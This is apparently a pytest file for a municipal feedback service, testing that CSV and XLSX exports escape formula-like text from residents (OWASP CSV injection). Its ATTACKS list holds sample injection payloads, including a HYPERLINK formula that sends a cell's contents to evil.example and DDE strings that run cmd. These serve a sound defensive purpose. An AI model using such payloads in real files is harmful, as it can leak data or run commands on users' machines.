"""Spreadsheet cells (shared/spreadsheets.py): what a resident typed never becomes a live
formula in the CSV and XLSX files the services write (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from services.intake.web.staff.imports import template_csv, template_xlsx
from services.reporting.open_data import COLUMNS, to_csv, to_xlsx
from shared.spreadsheets import append_xlsx_row, csv_cell, looks_like_formula

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
]
ORDINARY = [
    "Đường vào ấp Chợ ngập nước mỗi khi mưa, đề nghị xã nạo vét cống.",
    "Phòng Kinh tế",
    "Toàn xã",
    "",
    "25/03/2017",
    "a=b",
    "email@example.vn",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_like_text_gets_a_quote_in_csv(text):
    assert looks_like_formula(text) and csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", [*ORDINARY, 1, 3.5, None])
def test_ordinary_cells_are_unchanged(value):
    assert not looks_like_formula(value) and csv_cell(value) == value


def test_xlsx_cells_are_text_never_formulas():
    workbook = Workbook()
    append_xlsx_row(workbook.active, [*ATTACKS, 7, "Phòng Kinh tế"])
    out = io.BytesIO()
    workbook.save(out)
    sheet_xml = zipfile.ZipFile(io.BytesIO(out.getvalue())).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    row = next(load_workbook(io.BytesIO(out.getvalue())).active.iter_rows())
    assert [c.value for c in row[: len(ATTACKS)]] == ATTACKS  # the text is kept as written
    assert all(c.data_type == "s" and c.quotePrefix for c in row[: len(ATTACKS)])
    assert row[len(ATTACKS)].value == 7 and row[len(ATTACKS)].data_type == "n"


def _open_row(issue: str) -> dict:
    return {
        "stt": 1,
        "topic": "@Chủ đề",
        "hamlet": "ấp Chợ",
        "issue": issue,
        "office": "Phòng Kinh tế",
        "authority": "Cấp xã",
        "due": "",
        "status": "Đang thực hiện",
        "times_raised": 2,
    }


def test_the_open_data_files_escape_a_residents_formula():
    rows = [_open_row(ATTACKS[0]), _open_row("Đèn đường hư, ban đêm trộm cắp nhiều.")]
    parsed = list(csv.reader(io.StringIO(to_csv(rows).decode("utf-8-sig"))))
    issue = [label for _, label in COLUMNS].index("Ý kiến, kiến nghị")
    assert (
        parsed[1][issue] == "'" + ATTACKS[0]
        and parsed[1][1] == "'@Chủ đề"
        and parsed[2][issue] == "Đèn đường hư, ban đêm trộm cắp nhiều."
    )
    assert parsed[1][0] == "1" and parsed[1][-1] == "2"
    content = to_xlsx(rows, "=Tiêu đề")
    sheet_xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml
    sheet = load_workbook(io.BytesIO(content)).active
    assert (
        sheet["A1"].value == "=Tiêu đề"
        and sheet.cell(3, issue + 1).value == ATTACKS[0]
        and sheet.cell(3, issue + 1).data_type == "s"
    )


def test_the_import_templates_are_unchanged_by_the_escaping():
    assert "'" not in template_csv().decode("utf-8-sig")
    assert "<f>" not in zipfile.ZipFile(io.BytesIO(template_xlsx())).read("xl/worksheets/sheet1.xml").decode()
